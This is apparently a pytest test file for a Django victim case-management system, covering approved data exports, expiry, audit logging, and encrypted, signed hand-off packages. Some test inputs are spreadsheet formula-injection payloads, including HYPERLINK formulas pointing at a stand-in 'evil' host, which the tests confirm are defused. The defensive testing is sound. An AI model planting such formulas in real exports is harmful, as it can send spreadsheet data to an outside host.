"""Identified exports: a second approver above the threshold, expiry, formulas defused, audit; hand-offs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.test import override_settings
from django.utils import timezone

from gugus.audit.models import AuditEntry
from gugus.core.errors import Conflict, NotFound, PermissionDenied, ValidationFailed
from gugus.core.spreadsheets import csv_read_text, csv_text
from gugus.exchange.models import ExportRequest, HandoffPackage
from gugus.exchange.services import (
    export_decide,
    export_download,
    export_request,
    exports_expire,
    handoff_create,
    handoff_open,
)

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=HYPERLINK(\"http://x\"&A1)", "'=HYPERLINK(\"http://x\"&A1)"), ("+62812", "'+62812"), ("-1", "'-1"),
     ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("Siti", "Siti"), (5, 5), ("", "")],
)  # fmt: skip
def test_formula_cells_are_defused_and_read_back(value, expected):
    assert csv_text(value) == expected
    assert csv_read_text(csv_text(value)) == value


@pytest.fixture
def three_cases(open_case):
    from gugus.cases.tests.fixtures import victim

    return [
        open_case(victims=[victim(full_name='=HYPERLINK("http://evil","klik")')]),
        open_case(victims=[victim(full_name="Budi", nik="", phones=["0813-1111-2222"])]),
        open_case(victims=[victim(full_name="Wati", nik="", passport_no="")]),
    ]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_small_export_is_ready_at_once_defused_and_audited(three_cases, users):
    export = export_request(actor=users["case_worker"], format="csv", purpose="Rapat koordinasi")
    assert (export.status, export.cases, export.people) == ("ready", 3, 3)
    name, content, content_type = export_download(actor=users["case_worker"], export=export)
    assert name == f"gugus-export-{export.pk}.csv" and content_type.startswith("text/csv")
    rows = _csv_rows(content)
    assert rows[0][:3] == ["Case number", "Report date", "Status"]
    names = sorted(r[7] for r in rows[1:])
    assert names == ['\'=HYPERLINK("http://evil","klik")', "Budi", "Wati"]
    actions = list(
        AuditEntry.objects.filter(object_type="exchange.exportrequest", object_id=str(export.pk)).values_list(
            "action", flat=True
        )
    )
    assert actions == ["exports.request", "exports.download"]
    assert ExportRequest.objects.get(pk=export.pk).downloads == 1


def test_xlsx_export_has_no_live_formula(three_cases, users):
    from openpyxl import load_workbook

    export = export_request(actor=users["case_worker"], format="xlsx", purpose="x")
    _, content, _ = export_download(actor=users["case_worker"], export=export)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    evil = next(c for c in cells if c.value == '=HYPERLINK("http://evil","klik")')
    assert evil.data_type == "s" and evil.quotePrefix
    assert all(cell.data_type != "f" for cell in cells)


@override_settings(GUGUS_EXPORT_APPROVAL_THRESHOLD=2)
def test_a_bulk_export_needs_a_second_person_of_the_unit(three_cases, users):
    export = export_request(actor=users["case_worker"], format="csv", purpose="Data untuk LPSK")
    assert export.status == "pending" and export.content is None
    with pytest.raises(Conflict):
        export_download(actor=users["case_worker"], export=export)
    with pytest.raises(PermissionDenied):  # approving needs the capability
        export_decide(actor=users["case_worker"], export=export, approve=True)
    with pytest.raises(NotFound):  # a supervisor of another unit
        export_decide(actor=users["supervisor@other"], export=export, approve=True)
    mine = export_request(actor=users["supervisor"], format="csv", purpose="saya sendiri")
    with pytest.raises(PermissionDenied):  # nobody approves their own export
        export_decide(actor=users["supervisor"], export=mine, approve=True)
    decided = export_decide(actor=users["supervisor"], export=export, approve=True)
    assert decided.status == "ready" and decided.approved_by == users["supervisor"]
    with pytest.raises(Conflict):
        export_decide(actor=users["supervisor"], export=export, approve=False, note="late")
    with pytest.raises(NotFound):  # only the requester downloads
        export_download(actor=users["supervisor"], export=export)
    _, content, _ = export_download(actor=users["case_worker"], export=export)
    assert len(_csv_rows(content)) == 4


@override_settings(GUGUS_EXPORT_APPROVAL_THRESHOLD=2)
def test_a_rejection_needs_a_reason(three_cases, users):
    export = export_request(actor=users["case_worker"], format="csv", purpose="x")
    with pytest.raises(ValidationFailed):
        export_decide(actor=users["supervisor"], export=export, approve=False)
    rejected = export_decide(actor=users["supervisor"], export=export, approve=False, note="Tidak perlu")
    assert rejected.status == "rejected" and rejected.content is None


def test_an_export_expires_and_its_file_is_erased(three_cases, users):
    export = export_request(actor=users["case_worker"], format="csv", purpose="x")
    ExportRequest.objects.filter(pk=export.pk).update(expires_at=timezone.now() - dt.timedelta(minutes=1))
    with pytest.raises(Conflict):
        export_download(actor=users["case_worker"], export=export)
    stored = ExportRequest.objects.get(pk=export.pk)
    assert stored.status == "expired" and stored.content is None
    other = export_request(actor=users["case_worker"], format="csv", purpose="y")
    ExportRequest.objects.filter(pk=other.pk).update(expires_at=timezone.now() - dt.timedelta(seconds=1))
    assert exports_expire(actor=users["supervisor"]) == 1
    assert ExportRequest.objects.get(pk=other.pk).content is None


def test_an_export_holds_only_the_unit_s_own_cases(three_cases, open_case, users, units):
    open_case(unit=units["dinsos"], actor=users["supervisor@other"])
    export = export_request(actor=users["case_worker@other"], format="csv", purpose="x")
    assert (export.cases, export.people) == (1, 1)
    with pytest.raises(PermissionDenied):
        export_request(actor=users["analyst"], format="csv", purpose="x")


def test_bad_export_requests_are_refused_by_field(users):
    with pytest.raises(ValidationFailed) as error:
        export_request(actor=users["case_worker"], format="pdf", purpose="x")
    assert error.value.field == "format"
    with pytest.raises(ValidationFailed) as error:
        export_request(actor=users["case_worker"], format="csv", purpose="  ")
    assert error.value.field == "purpose"


# --- hand-off packages -----------------------------------------------------------------------------

PASSWORD = "kuda-lumping-2025"


def _handoff(users, case, **overrides):
    values = {
        "actor": users["supervisor"],
        "victim": case.roles.get(role="victim"),
        "recipient": "IOM Phnom Penh",
        "recipient_country": "Kamboja",
        "shares": ["identity", "needs"],
        "consent_given_on": dt.date(2025, 3, 2),
        "consent_method": "written",
        "password": PASSWORD,
    }
    values.update(overrides)
    return handoff_create(**values)


def test_a_handoff_holds_the_consented_fields_only_signed_and_encrypted(three_cases, users):
    record, package = _handoff(users, three_cases[1])
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        assert sorted(archive.namelist()) == ["README.txt", "manifest.json", "manifest.sig", "payload.bin"]
        assert b"Budi" not in archive.read("payload.bin")
    opened = handoff_open(package, password=PASSWORD)
    assert set(opened["data"]) == {"identity", "needs"}
    assert opened["data"]["identity"]["full_name"] == "Budi"
    assert opened["manifest"]["recipient_country"] == "KH"
    assert record.shares == ",identity,needs,"
    entries = AuditEntry.objects.filter(action__in=["read.handoff", "exchange.handoff"]).order_by("sequence")
    assert [e.action for e in entries] == ["read.handoff", "exchange.handoff"]
    assert "identity.full_name" in entries[0].data["fields"]
    assert "documents.nik" not in entries[0].data["fields"]


def test_a_changed_package_or_a_wrong_password_is_refused(three_cases, users):
    _, package = _handoff(users, three_cases[1])
    with pytest.raises(ValidationFailed) as error:
        handoff_open(package, password="wrong-password-123")
    assert error.value.field == "password"
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as source, zipfile.ZipFile(buffer, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(
                name, data.replace(b"IOM Phnom Penh", b"IOM Phnom Penx") if name == "manifest.json" else data
            )
    with pytest.raises(ValidationFailed) as error:
        handoff_open(buffer.getvalue(), password=PASSWORD)
    assert "signature" in str(error.value.message)


def test_a_handoff_refuses_what_must_stay_and_other_units(three_cases, users, open_case, units):
    with pytest.raises(ValidationFailed) as error:
        _handoff(users, three_cases[1], shares=["case_file"])
    assert error.value.field == "shares"
    with pytest.raises(ValidationFailed) as error:
        _handoff(users, three_cases[1], password="short")
    assert error.value.field == "password"
    with pytest.raises(ValidationFailed) as error:
        _handoff(users, three_cases[1], consent_given_on=dt.date.today() + dt.timedelta(days=1))
    assert error.value.field == "consent_given_on"
    other = open_case(unit=units["dinsos"], actor=users["supervisor@other"])
    with pytest.raises(NotFound):
        _handoff(users, other)
    with pytest.raises(PermissionDenied):
        _handoff(users, three_cases[1], actor=users["case_worker"])
    assert HandoffPackage.objects.count() == 0
